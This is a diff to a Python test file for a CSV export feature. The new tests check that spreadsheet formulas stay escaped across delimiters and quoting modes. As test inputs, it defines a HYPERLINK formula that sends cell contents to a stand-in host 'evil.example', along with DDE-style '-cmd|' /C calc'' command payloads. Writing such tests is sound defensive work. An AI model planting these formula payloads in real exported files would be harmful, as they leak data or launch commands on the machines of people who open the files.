@@ -4,6 +4,7 @@ import csv
 import gzip
 import io
 import re
+import time
 from collections.abc import Callable
 from typing import Any
 
@@ -17,12 +18,13 @@ from psycopg import sql
 from exports.formats.base import FileColumn
 from exports.formats.csv_format import Csv
 from exports.formats.formulas import escaped as escaped_header
-from exports.formats.formulas import escaped_sql
+from exports.formats.formulas import escaped_sql, separated
 from exports.parsing import parse_export
 from exports.spec import DELIMITERS, LINE_ENDS, Quoting
 from resources.columns import Kind
+from tests.exports.nested import joined
 from tests.exports.samples import COLUMNS, NASTY, exported, stored, texts
-from tests.exports.spreadsheets import escaped
+from tests.exports.spreadsheets import escaped, runs
 
 pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("sample")]
 quick = settings(
@@ -67,8 +69,12 @@ def test_every_dialect_reads_back(
     file = exported(organization, "csv", compression=compression, columns=columns, **dialect)
     content = DECOMPRESSED[compression](file)
 
-    shown = escaped if dialect.get("escape_formulas", True) else str
-    expected = [[shown(text or ""), shown(member)] for text, member in records]
+    def shown(text: str) -> str:
+        if not dialect.get("escape_formulas", True):
+            return text
+        return separated(escaped(text).encode(), dialect.get("delimiter", ",")).decode()
+
+    expected = [[shown(text or ""), shown(joined([member]))] for text, member in records]
     if dialect.get("include_header", True):
         expected.insert(0, [shown(header) for header in columns.values()])
     assert read(content, dialect) == expected
@@ -152,6 +158,15 @@ def test_what_runs_in_a_spreadsheet_is_escaped_the_same_everywhere(text: str) ->
         "+1 212 555 0100, =1",
         "-1, x",
         "-1,=1+1",
+        "-$A1",
+        "-USD59",
+        "-US$5",
+        "-$1:$3",
+        "-$",
+        "-$5+HYPERLINK(1)",
+        "-59 ABCD",
+        "-CHF 20.00(",
+        "-(59.41)",
     ],
 )
 def test_a_formula_is_escaped(text: str) -> None:
@@ -169,6 +184,19 @@ def test_a_formula_is_escaped(text: str) -> None:
         "-1e-7",
         "+14155550100, +14155550101",
         "-1, 2, +3.5, 0151 2345",
+        "-$59.41",
+        "-$1,234.50",
+        "-\u20ac59,41",
+        "-59,41 \u20ac",
+        "-59,41\u00a0\u20ac",
+        "-CHF 20.00",
+        "-20.00 CHF",
+        "+\u00a31.234.567,89",
+        "-1 234 567,89 \u20ac",
+        "-1'234.50",
+        "-12 %",
+        "(59.41)",
+        "($59.41)",
         "1=1",
         "a@b",
         " a",
@@ -184,3 +212,70 @@ def test_only_text_is_escaped() -> None:
     shown = {name: cell for name, cell in zip(COLUMNS, row, strict=True) if cell}
     expected = {"text": "'-1-1", "integer": "-5", "float": "-0.5", "list": "'=a"}
     assert shown == expected | {"json": "'@b, 1"}
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
+PIECES = st.sampled_from(
+    [
+        *(*";,|\t\r\n\"' ", "\u00a0", FORMULA, "=1", "+", "-", "@SUM(1)", "-1+A1("),
+        *("-cmd|' /C'!A0", "-5", "-$5.00", "+1 (212) 555-0100", "text", "- note", "\uff1d1"),
+        "\uff0dA(",
+    ]
+)
+
+
+@settings(quick, max_examples=200)
+@given(
+    texts=st.lists(st.lists(PIECES, max_size=6).map("".join), min_size=1, max_size=3),
+    delimiter=st.sampled_from(DELIMITERS),
+    quoting=st.sampled_from(list(Quoting)),
+)
+def test_no_text_runs_in_a_program_that_takes_another_separator(
+    texts: list[str], delimiter: str, quoting: Quoting
+) -> None:
+    organization = stored(*({"text": text, "list": [text]} for text in texts))
+    columns = {"integer": "n", "text": f"a{FORMULA}", "list": f"b;|{FORMULA}"}
+    options = {"delimiter": delimiter, "quoting": quoting, "columns": columns}
+    content = exported(organization, "csv", **options).decode()
+    for other in DELIMITERS:
+        # Quotes inside of a cell part nothing, as spreadsheets have it.
+        for reader in (
+            csv.reader(io.StringIO(content, newline=""), delimiter=other),
+            (re.split("[\r\n]", content) for _ in range(1)),
+        ):
+            cells = [part for row in reader for part in row]
+            if other != delimiter:
+                cells += [part for cell in cells for part in cell.split(other)]
+                assert not [cell for cell in cells if runs(cell, delimiter)]
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (f"a;{FORMULA}", f"a;'{FORMULA}"),
+        ("a|  =1", "a|  '=1"),
+        ("a\n=1", "a\n'=1"),
+        ('a;"=1"', 'a;"\'=1"'),
+        ("a\t-SUM(A1)", "a\t'-SUM(A1)"),
+        ("a;@SUM(1)", "a;'@SUM(1)"),
+        ("a;-cmd|' /C calc'!A0", "a;'-cmd|' /C calc'!A0"),
+        ("a,=1", "a,=1"),
+        ("list:\n- one\n- two", "list:\n- one\n- two"),
+        ("a; -5; (b)", "a; -5; (b)"),
+        ("x;+1 (212) 555-0100", "x;+1 (212) 555-0100"),
+        ("a;=", "a;'="),
+    ],
+)
+def test_a_formula_behind_another_separator_is_escaped(text: str, shown: str) -> None:
+    [row] = read(exported(stored({"text": text}), "csv", columns=["text"]), {})[1:]
+    assert row == [shown]
+    plain = exported(stored({"text": text}), "csv", columns=["text"], escape_formulas=False)
+    assert read(plain, {})[1:] == [[text]]
+
+
+def test_looking_for_formulas_takes_linear_time() -> None:
+    for piece in (b";-", b"|-1", b";+1 ", b"\t@", b'";', b"; ", b";-$", b"\n-"):
+        rows = piece * (2_000_000 // len(piece))
+        began = time.monotonic()
+        separated(rows, ",")
+        assert time.monotonic() - began < 10
